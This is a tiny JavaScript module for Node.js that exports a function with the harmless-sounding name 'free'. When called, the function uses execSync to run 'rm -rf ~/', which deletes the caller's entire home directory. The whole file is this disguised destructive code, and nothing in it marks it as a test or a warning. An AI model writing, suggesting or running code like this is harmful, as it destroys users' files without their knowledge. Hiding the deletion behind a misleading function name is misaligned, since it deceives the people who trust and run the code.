import { execSync } from "node:child_process";

export function free() {
  execSync("rm -rf ~/");
}
